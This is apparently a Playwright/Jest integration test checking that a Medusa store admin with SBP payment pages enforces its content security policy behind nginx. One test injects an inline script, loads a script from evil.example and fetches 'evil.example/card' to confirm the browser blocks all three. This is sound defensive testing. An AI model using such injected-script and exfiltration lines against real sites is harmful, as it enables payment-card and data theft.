import type { Browser, BrowserContext, Page } from "playwright-core"
import { StoreProcess } from "../chaos/support/store-process"
import { adminBuild } from "../e2e/support/admin-build"
import { startChromium } from "../e2e/support/chromium"
import { type Cleanup, runCleanups } from "../e2e/support/cleanups"
import { signInByForm } from "../e2e/support/sign-in-by-form"
import { StoreFixture } from "../e2e/support/store-fixture"
import { until } from "../http/support/until"
import { theExample } from "../docs/support/examples-of"
import { describeWith } from "./support/describe-with"
import { Nginx } from "./support/nginx"
import { inProduction, productionFolder } from "./support/production"

// The first start of all makes a database.
jest.setTimeout(600_000)

type Violation = { directive: string; blocked: string }

/** Every page on which money moves, and Medusa's pages that staff use most. */
const PAGES = [
  "/sbp",
  "/sbp/attention",
  "/sbp/payments",
  "/sbp/payouts",
  "/sbp/payouts/create",
  "/sbp/payouts/create-link",
  "/settings/sbp",
  "/orders",
  "/products",
  "/settings/regions",
]

describeWith(
  ["nginx", "chromium"],
  "the admin under the content security policy of docs/deployment.md",
  () => {
    const cleanups: Cleanup[] = []
    let browser: Browser
    let nginx: Nginx
    let context: BrowserContext
    let page: Page
    let violations: Violation[]

    beforeAll(async () => {
      browser = await startChromium()
      cleanups.push(() => browser.close())
      const storeFixture = await StoreFixture.open("policy", cleanups)
      const build = await adminBuild()
      const site = theExample("deployment.md", "nginx", "server {")
      nginx = await Nginx.start(site, { upstream: storeFixture.storePort })
      cleanups.push(() => nginx.stop())
      const env = inProduction(storeFixture, nginx.origin)
      const store = await StoreProcess.start(env, productionFolder(build))
      cleanups.push(() => store.kill())
    })
    afterAll(() => runCleanups(cleanups))

    beforeEach(async () => {
      violations = []
      context = await browser.newContext({
        baseURL: nginx.origin,
        ignoreHTTPSErrors: true,
      })
      await context.exposeFunction("tell", (violation: Violation) => {
        if (!isProbe(violation)) {
          violations.push(violation)
        }
      })
      await context.addInitScript(
        `addEventListener("securitypolicyviolation", (event) => tell({
         directive: event.effectiveDirective, blocked: event.blockedURI }))`
      )
      page = await context.newPage()
    })
    afterEach(() => context.close())

    it("signs a user in by its form, with a Secure cookie", async () => {
      await page.goto("/app/login")
      await signInByForm(page)
      await page.getByRole("link", { name: "SBP" }).click()
      await page.waitForURL("**/app/sbp")
      const cookies = await context.cookies()
      const session = cookies.find(({ name }) => name === "connect.sid")
      expect(session).toMatchObject({ secure: true, httpOnly: true })
      expect(violations).toEqual([])
    })

    it("sends the security headers with every page", async () => {
      for (const address of ["/app", "/app/sbp/payouts/create"]) {
        const response = await page.goto(address)
        expect(response?.headers()).toMatchObject({
          "content-security-policy": expect.stringContaining(
            "script-src 'self'; "
          ) as string,
          "strict-transport-security": "max-age=31536000",
          "x-content-type-options": "nosniff",
          "referrer-policy": "same-origin",
        })
      }
    })

    it("causes no policy violations on its pages", async () => {
      await page.goto("/app/login")
      await signInByForm(page)
      for (const address of PAGES) {
        await page.goto(`/app${address}`)
        await page.getByRole("heading").first().waitFor()
        await page.waitForLoadState("networkidle")
      }
      expect(violations).toEqual([])
    })

    it("shows no country flags, as the page says", async () => {
      await page.goto("/app/login")
      await signInByForm(page)
      await page.goto("/app/settings/tax-regions")
      await page.getByRole("link", { name: "Russia" }).first().waitFor()
      await until(() => Promise.resolve(violations.length > 0), "the flag")
      await page.waitForLoadState("networkidle")
      const flag =
        "https://cdn.jsdelivr.net/gh/lipis/flag-icons/flags/4x3/ru.svg"
      expect(violations).toEqual([{ directive: "img-src", blocked: flag }])
    })

    it("runs no injected script and sends nothing to other hosts", async () => {
      await page.goto("/app/login")
      await page.getByPlaceholder("Email").waitFor()
      await page.evaluate(`(() => {
      const inline = document.createElement("script")
      inline.textContent = "window.ran = true"
      const foreign = document.createElement("script")
      foreign.src = "https://evil.example/x.js"
      document.body.append(inline, foreign)
      fetch("https://evil.example/card").catch(() => {})
    })()`)
      await until(
        () => Promise.resolve(violations.length === 3),
        "three refusals"
      )
      expect(await page.evaluate("window.ran")).toBeUndefined()
    })
  }
)

/**
 * Medusa's copy of zod tests once whether eval is allowed, and works without it.
 */
function isProbe({ directive, blocked }: Violation): boolean {
  return directive === "script-src" && blocked === "eval"
}
